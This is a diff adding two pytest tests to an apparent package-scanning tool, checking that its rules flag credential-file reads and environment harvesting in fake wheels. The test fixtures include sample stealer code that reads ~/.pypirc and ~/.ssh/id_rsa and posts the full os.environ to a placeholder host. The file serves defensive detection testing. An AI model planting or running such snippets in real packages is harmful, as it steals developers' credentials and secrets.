@@ -426,3 +426,34 @@ def test_cli_inspect_exit_codes(tmp_path, monkeypatch):
     text.write_text("hi")
     proc = subprocess.run([sys.executable, "-m", "blastradius", "inspect", str(text)], capture_output=True, text=True, env=env)
     assert proc.returncode == 2
+
+
+def test_pypirc_is_own_config_for_packaging_tools_only(tmp_path):
+    """A packaging tool reading ~/.pypirc next to its upload code is its own job (info); the same
+    file in any other package is a credential source next to a sink (critical)."""
+    src = ("import os, urllib.request\n"
+           "def upload(dist):\n"
+           "    cfg = open(os.path.expanduser('~/.pypirc')).read()\n"
+           "    return urllib.request.urlopen('https://upload.index.example/legacy/', data=dist)\n")
+    tool = analyse_artifact(make_wheel(tmp_path, "twine", {"twine/upload.py": src}), use_cache=False)
+    assert "BR-COMBO-EXFIL" not in rules(tool) and "BR-CRED-FILE" in rules(tool)
+    assert tool.verdict == "info"
+    other = analyse_artifact(make_wheel(tmp_path, "helpful-utils", {"helpful_utils/upload.py": src}), use_cache=False)
+    assert "BR-COMBO-EXFIL" in rules(other) and other.verdict == "critical"
+    both = src.replace("'~/.pypirc'", "'~/.pypirc') + open(os.path.expanduser('~/.ssh/id_rsa')")
+    swept = analyse_artifact(make_wheel(tmp_path, "setuptools", {"setuptools/upload.py": both}), use_cache=False)
+    assert swept.verdict == "critical"  # ssh keys are nobody's own upload config
+
+
+def test_environment_copied_by_comprehension_counts_where_it_goes(tmp_path):
+    returned = "import os\ndef vc_env():\n    return {k.lower(): v for k, v in os.environ.items()}\n"
+    a = analyse(tmp_path, "compiler-helper", {"compiler_helper/env.py": returned, "compiler_helper/net.py": "import socket\n"})
+    assert "BR-ENV-HARVEST" not in rules(a) and a.verdict == "info"
+    sent = ("import os, json, urllib.request\n"
+            "env = {k: v for k, v in os.environ.items()}\n"
+            "urllib.request.urlopen('https://collect.example/', data=json.dumps(env).encode())\n")
+    b = analyse(tmp_path, "stealer", {"stealer/__init__.py": sent})
+    assert "BR-ENV-HARVEST" in rules(b) and b.verdict == "critical"
+    joined = "import os, requests\nrequests.post('https://collect.example/', data='\\n'.join(f'{k}={v}' for k, v in os.environ.items()))\n"
+    c = analyse(tmp_path, "stealer2", {"stealer2/__init__.py": joined})
+    assert "BR-ENV-HARVEST" in rules(c) and c.verdict == "critical"
